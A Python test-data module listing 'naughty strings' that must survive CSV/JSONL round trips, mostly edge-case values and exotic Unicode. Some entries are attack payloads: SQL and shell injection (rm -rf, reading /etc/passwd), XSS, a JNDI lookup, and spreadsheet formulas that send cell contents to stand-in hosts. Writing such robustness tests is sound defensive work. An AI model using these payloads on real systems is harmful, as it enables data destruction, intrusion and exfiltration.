"""Classic naughty strings (after the big-list-of-naughty-strings idea), written out inline.

Every one must survive a CSV/JSONL round trip through the readers unchanged.
"""

# ruff: noqa: E501
from __future__ import annotations

NAUGHTY: tuple[str, ...] = (
    # null-ish and reserved words
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "NaN", "nan", "Infinity",
    "-Infinity", "true", "false", "True", "FALSE", "\\N", "N/A", "NA", "#N/A", "-", "0", "-0", "0.0",
    "00000000000000001", "0012345678901234", "1E+02", "1e309", "-1e309", "0x0", "9" * 40,
    "1,000,000.00", "1.000.000,00", "٣", "½",
    # SQL / command injection
    "' OR '1'='1", "1'; DROP TABLE users; --", "\" OR \"\"=\"", "admin'--", "1 UNION SELECT NULL, NULL--",
    "$(touch /tmp/pwned)", "`reboot`", "; rm -rf / ;", "| cat /etc/passwd", "&& shutdown -h now",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%s%s%s%n", "{{7*7}}", "${7*7}",
    "${jndi:ldap://x.example/a}", "<%= 7*7 %>",
    # HTML / script
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "javascript:alert(1)", "<a href='https://example.com'>x</a>", "&lt;b&gt;", "<!--", "]]>", "<?xml ?>",
    # spreadsheet formulas (CSV injection)
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x.example/\", A1), \"//a\")", "\t=1+1", "\r=1+1",
    # quoting and delimiters
    "\"", "\"\"", "'", "''", ",", ",,,", ";", "|", "\t", "a,b;c|d\te", "\"quoted, with comma\"",
    "line1\nline2", "line1\r\nline2", "trailing newline\n", "back\\slash", "\\\"",
    # unicode: RTL, zero-width, combining, emoji, scripts
    "\u202egnp.exe", "\u202dleft-to-right override", "مرحبا بالعالم", "שלום", "\u200b", "zero\u200bwidth\u200cjoin\u200d",
    "\ufeffBOM inside", "\u2028line separator", "\u2029para", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "e\u0301", "ÅÍÎÏ˝ÓÔ\uf8ffÒÚÆ☃",
    "😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇮🇩", "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜", "田中さんにあげて下さい", "사회과학원 어학연구소", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "Dьяволъ", "ﷺ", "\u00a0non-breaking\u00a0", "\u3000ideographic space", "\x7f", "\x01\x02\x03", "tab\there",
    # long and odd shapes
    "A" * 5000, "x " * 3000, "é" * 2000, " leading space", "trailing space ", "   ", "",
)  # fmt: skip
